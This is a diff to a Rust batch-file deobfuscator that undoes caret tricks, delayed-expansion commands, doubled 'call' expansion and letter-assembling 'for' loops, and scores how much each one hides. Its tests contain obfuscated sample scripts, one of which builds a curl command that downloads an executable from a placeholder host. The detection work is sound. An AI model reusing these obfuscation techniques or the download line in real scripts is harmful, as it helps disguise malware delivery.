@@ -1,6 +1,6 @@
 //! Batch files: carets that mean nothing, and variables put in, whole or in part, line by line.
 
-use std::collections::{BTreeMap, HashMap};
+use std::collections::{BTreeMap, HashMap, HashSet};
 
 use crate::budget::Budget;
 use crate::limits::MAX_LAYER;
@@ -27,24 +27,27 @@ struct Run {
     /// Blocks in parentheses that are open.
     depth: i32,
     variables: HashMap<String, String>,
+    /// All that have or had a value.
+    named: HashSet<String>,
     steps: BTreeMap<Technique, usize>,
     weight: usize,
+    /// A command in a variable counted already.
+    is_command_known: bool,
 }
 
 pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
     let (telling, mut hosts) = (not_shown(text), Hosts::default());
-    let mut run = Run::default();
+    let mut run = Run { is_delayed: is_run_delayed(text), ..Run::default() };
     let mut done = String::with_capacity(text.len());
     for line in text.split_inclusive('\n') {
         if !budget.spend(line.len() / 4 + 1) || done.len() > MAX_LAYER {
             return Rewrite::default();
         }
-        let expanded = run.expand(line, '%', budget);
-        let plain = run.without_carets(&expanded);
-        // `!name!` is put in when the line is run; what the line sets itself is not known then.
-        let sets = plain.to_ascii_lowercase().contains("set ");
-        let plain = if run.is_delayed && !sets { run.expand(&plain, '!', budget) } else { plain };
-        run.assign(&plain);
+        let plain = run.line(line, budget);
+        match Loop::of(&plain) {
+            Some(each) => run.repeat(&each, budget),
+            None => run.assign(&plain),
+        }
         run.delay(&plain);
         let is_new = run.weight < ENOUGH && plain != line && {
             let lower = plain.to_ascii_lowercase();
@@ -62,6 +65,64 @@ pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
 }
 
 impl Run {
+    /// A line as it is run.
+    fn line(&mut self, line: &str, budget: &mut Budget) -> String {
+        let called = self.called(line, budget);
+        let expanded = called.unwrap_or_else(|| self.expand(line, '%', &[], budget));
+        let plain = self.without_carets(&expanded);
+        if !self.is_delayed {
+            return plain;
+        }
+        let own = own_names(&plain);
+        let delayed = self.expand(&plain, '!', &own, budget);
+        // Who keeps a whole command in a variable, and puts it together before, hides it.
+        if is_delayed_command(&plain) && delayed != plain && !self.is_command_known {
+            self.is_command_known = true;
+            self.weight += 150;
+        }
+        delayed
+    }
+
+    /// `call` reads its line twice: `%%name%%` is a variable the second time.
+    fn called(&mut self, line: &str, budget: &mut Budget) -> Option<String> {
+        let command = line.trim_start_matches(['@', ' ', '\t']);
+        let rest = command.get(..5).filter(|word| word.eq_ignore_ascii_case("call ")).map(|_| &command[5..])?;
+        let program =
+            rest.trim_start().split(char::is_whitespace).next().filter(|program| program.starts_with("%%"))?;
+        let plain = rest.replace("%%", "%");
+        let expanded = self.expand(&plain, '%', &[], budget);
+        if expanded == plain {
+            return None;
+        }
+        // A name of two halves that are words is no folder and what is in it.
+        self.weight += if program.contains("%%%%") { 100 } else { 0 };
+        Some(format!("{}{expanded}", &line[..line.len() - rest.len()]))
+    }
+
+    /// `for %%a in (2,1,0) do set name=...`: the value that the variable has behind it.
+    fn repeat(&mut self, each: &Loop<'_>, budget: &mut Budget) {
+        if self.depth > 0 {
+            self.lose(each.name);
+            return;
+        }
+        // What was never set is empty.
+        if self.is_delayed && !self.named.contains(&each.name.to_lowercase()) {
+            self.set(&format!("{}=", each.name), false);
+        }
+        for item in &each.items {
+            let one = each.value.replace(&each.counter, item);
+            let made = if self.is_delayed { self.expand(&one, '!', &[], budget) } else { one };
+            self.set(&format!("{}={made}", each.name), false);
+        }
+    }
+
+    /// Its value is not known from here on.
+    fn lose(&mut self, name: &str) {
+        let name = name.to_lowercase();
+        self.variables.remove(&name);
+        self.named.insert(name);
+    }
+
     /// Whether variables between exclamation marks are put in from here on.
     fn delay(&mut self, line: &str) {
         let lower = line.to_ascii_lowercase();
@@ -81,8 +142,8 @@ impl Run {
         self.weight += weight;
     }
 
-    /// With the variables that are known put in, which stand between two of `mark`.
-    fn expand(&mut self, line: &str, mark: char, budget: &mut Budget) -> String {
+    /// With the variables that are known put in, which stand between two of `mark`, but for those that change.
+    fn expand(&mut self, line: &str, mark: char, changing: &[String], budget: &mut Budget) -> String {
         let mut done = String::with_capacity(line.len());
         let mut rest = line;
         while let Some(at) = rest.find(mark) {
@@ -96,23 +157,15 @@ impl Run {
                 rest = &rest[length..];
                 continue;
             };
-            match self.value(&inner[..end]) {
+            let reference = &inner[..end];
+            let name = name_of(reference);
+            match self.value(reference).filter(|_| !changing.contains(&name)) {
                 Some((value, technique))
                     if budget.spend(value.len() / 8 + 1) && done.len() + value.len() <= MAX_LAYER =>
                 {
                     done.push_str(&value);
                     rest = &inner[end + 1..];
-                    // A letter from a variable is hidden; a name that is used twice is not.
-                    let is_letter = value.chars().count() <= 2;
-                    self.count(
-                        technique,
-                        match technique {
-                            Technique::Substring => 50,
-                            Technique::Replace => 40,
-                            _ if is_letter => 30,
-                            _ => 0,
-                        },
-                    );
+                    self.count(technique, self.hiding(&name, &value, technique));
                 }
                 _ => {
                     done.push(mark);
@@ -122,6 +175,19 @@ impl Run {
         }
         done.push_str(rest);
         done
+    }
+
+    /// How much it hides. A letter from a variable is hidden; a name that is used twice is not.
+    fn hiding(&self, name: &str, value: &str, technique: Technique) -> usize {
+        // A drive or a folder is what these are cut for; letters of them, to write another word.
+        let is_word = value.bytes().all(|byte| byte.is_ascii_alphabetic());
+        match technique {
+            Technique::Substring if is_word && !self.variables.contains_key(name) => 100,
+            Technique::Substring => 50,
+            Technique::Replace => 40,
+            _ if value.chars().count() <= 2 => 30,
+            _ => 0,
+        }
     }
 
     /// `name`, `name:~start,length` or `name:from=to`.
@@ -154,13 +220,15 @@ impl Run {
             return line.to_owned();
         }
         let mut done = String::with_capacity(line.len());
-        let (mut quoted, mut removed, mut letters) = (false, 0, line.chars().peekable());
+        let (mut quoted, mut letters, mut before) = (false, line.chars().peekable(), ' ');
         while let Some(letter) = letters.next() {
             quoted ^= letter == '"';
             if letter == '^' && !quoted {
                 let next = letters.peek().copied().unwrap_or('\n');
                 if next.is_ascii_alphanumeric() || matches!(next, '.' | '-' | '/' | '\\' | ':' | '_') {
-                    removed += 1;
+                    // A face or a formula has one, too: what is cut is a word.
+                    let is_in_word = before.is_ascii_alphabetic() && next.is_ascii_alphabetic();
+                    self.count(Technique::Caret, if is_in_word { 40 } else { 0 });
                     continue;
                 }
                 done.push(letter);
@@ -170,9 +238,7 @@ impl Run {
                 continue;
             }
             done.push(letter);
-        }
-        for _ in 0..removed {
-            self.count(Technique::Caret, 40);
+            before = letter;
         }
         done
     }
@@ -201,8 +267,7 @@ impl Run {
 
     fn forget(&mut self, rest: &str) {
         if let Some((name, _)) = rest.split_once('=') {
-            let name = name.trim_start_matches([' ', '"']).rsplit('"').next().unwrap_or_default().to_lowercase();
-            self.variables.remove(&name);
+            self.lose(name.trim_start_matches([' ', '"']).rsplit('"').next().unwrap_or_default());
         }
     }
 
@@ -211,8 +276,7 @@ impl Run {
         if rest.starts_with('/') {
             // Computed or asked for.
             if let Some((name, _)) = rest.split_once('=') {
-                let name = name.rsplit([' ', '"']).next().unwrap_or_default().to_lowercase();
-                self.variables.remove(&name);
+                self.lose(name.rsplit([' ', '"']).next().unwrap_or_default());
             }
             return;
         }
@@ -224,11 +288,77 @@ impl Run {
         let Some((name, value)) = rest.split_once('=') else { return };
         // What is not known in it is not known later; nor what a caret protects.
         if value.len() > MAX_VALUE || value.contains(['%', '!', '^']) {
-            self.variables.remove(&name.to_lowercase());
+            self.lose(name);
         } else {
+            self.named.insert(name.to_lowercase());
             self.variables.insert(name.to_lowercase(), value.to_owned());
         }
     }
+}
+
+/// Whether variables between exclamation marks are put in from the first line on: nobody cuts letters from one there
+/// without that, and who nowhere asks for it has the script run so.
+fn is_run_delayed(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    let mut parts =
+        lower.match_indices(":~").filter_map(|(at, _)| lower.get(..at)?.rsplit(['!', '%', '\n', ' ']).next());
+    let is_cut = |name: &str| lower.contains(&format!("!{name}:~"));
+    !lower.contains("delayedexpansion") && parts.any(|name| !name.is_empty() && is_cut(name))
+}
+
+/// In lower case.
+fn name_of(reference: &str) -> String {
+    reference.split(':').next().unwrap_or_default().to_lowercase()
+}
+
+/// What a line sets itself before it is over. A line of one command sets it last.
+fn own_names(line: &str) -> Vec<String> {
+    let lower = line.to_lowercase();
+    if commands(line).len() == 1 && !lower.trim_start_matches(['@', ' ', '\t', '(']).starts_with("for ") {
+        return Vec::new();
+    }
+    let set = lower.match_indices("set ").filter_map(|(at, _)| lower.get(at + 4..)?.split_once('='));
+    set.filter_map(|(name, _)| name.rsplit([' ', '"']).next()).map(str::to_owned).collect()
+}
+
+/// `!name!` alone.
+fn is_delayed_command(line: &str) -> bool {
+    let name = line.trim().strip_prefix('!').and_then(|rest| rest.strip_suffix('!'));
+    name.is_some_and(|name| !name.is_empty() && !name.contains(['!', ':', ' ']))
+}
+
+/// `for %%counter in (items) do set name=value`
+struct Loop<'a> {
+    counter: String,
+    items: Vec<&'a str>,
+    name: &'a str,
+    value: &'a str,
+}
+
+impl<'a> Loop<'a> {
+    /// Items of a list: letters of a command.
+    const MAX_ITEMS: usize = 4_096;
+
+    fn of(line: &'a str) -> Option<Self> {
+        let line = line.trim_matches(['@', ' ', '\t', '\r', '\n']);
+        let rest = tail(line, "for ")?.trim_start().strip_prefix('%')?;
+        let rest = rest.strip_prefix('%').unwrap_or(rest);
+        let letter = rest.chars().next().filter(char::is_ascii_alphabetic)?;
+        let (list, body) = tail(rest[1..].trim_start(), "in ")?.trim_start().strip_prefix('(')?.split_once(')')?;
+        let set = tail(tail(body.trim_start(), "do ")?.trim_start(), "set ")?;
+        if commands(set).len() != 1 || set.contains('"') || list.contains(['*', '?', '%', '!', '"']) {
+            return None;
+        }
+        let (name, value) = set.split_once('=').filter(|(name, _)| !name.starts_with('/'))?;
+        let items: Vec<&str> = list.split([',', ' ', ';', '\t']).filter(|item| !item.is_empty()).collect();
+        let counter = format!("%{}{letter}", if line.contains("%%") { "%" } else { "" });
+        (items.len() <= Self::MAX_ITEMS).then_some(Self { counter, items, name, value })
+    }
+}
+
+/// What follows a word, whatever its case.
+fn tail<'a>(text: &'a str, word: &str) -> Option<&'a str> {
+    text.get(..word.len()).filter(|begun| begun.eq_ignore_ascii_case(word)).map(|_| &text[word.len()..])
 }
 
 /// Commands of a line: what stands between `&` and `|`, outside of quotes, and not behind a caret.
@@ -333,6 +463,39 @@ mod tests {
         assert!(done.ends_with("endlocal\r\necho !b!\r\n"), "{done}");
         let done = undone(&format!("{text}curl !a!!b!!c!\r\nset a=x&curl !a!\r\n"));
         assert!(done.ends_with("set a=x&curl !a!\r\n"), "{done}");
+    }
+
+    #[test]
+    fn faces_and_formulas_are_no_words() {
+        for text in ["Yes ^_^ I did! ^_^ ^_^ ^_^ ^_^ ^_^\r\n", "echo 2^3 x^2 y^2 z^2 a^2 b^2\r\n"] {
+            assert_eq!(undone(text), "");
+        }
+        assert_eq!(undone("s^e^t x=a\r\nc^a^l^l d\r\n"), "set x=a\r\ncall d\r\n");
+    }
+
+    #[test]
+    fn a_delayed_command_is_put_together() {
+        let set = "setlocal EnableDelayedExpansion\r\nset k=curl\r\nset z=!k! http://one.example/f -o f.exe\r\n";
+        let done = undone(&format!("{set}!z!\r\nset s=abcdef\r\necho !s:~2,2!\r\n"));
+        assert!(done.ends_with("\r\ncurl http://one.example/f -o f.exe\r\nset s=abcdef\r\necho cd\r\n"), "{done}");
+        // A command that an honest script keeps in a variable.
+        assert_eq!(undone(&format!("{set}!z!\r\n")), "");
+    }
+
+    #[test]
+    fn a_call_puts_variables_in_twice() {
+        let text = "@echo off\r\n%COMSPEC:~-7,3% /c echo hi\r\nset \"a=cal\"\r\nset \"b=c.exe\"\r\ncall %%a%%%%b%%\r\n";
+        let done = undone(text);
+        assert!(done.contains("\r\ncmd /c echo hi\r\n") && done.ends_with("call calc.exe\r\n"), "{done}");
+        assert_eq!(undone("set p=python\r\ncall %%p%% x\r\nset r=%windir:~0,2%\r\n"), "");
+    }
+
+    #[test]
+    fn a_loop_that_takes_letters_is_run() {
+        let text = "set str=lrcu\r\nfor %%a in (2,3,1,0) do set out=!out!!str:~%%a,1!\r\n%out%\r\n";
+        assert!(undone(text).ends_with("\r\ncurl\r\n"), "{}", undone(text));
+        assert!(undone(&text.replace("do set", "do @set")).is_empty());
+        assert!(undone(&format!("setlocal DisableDelayedExpansion\r\n{text}")).is_empty());
     }
 
     #[test]
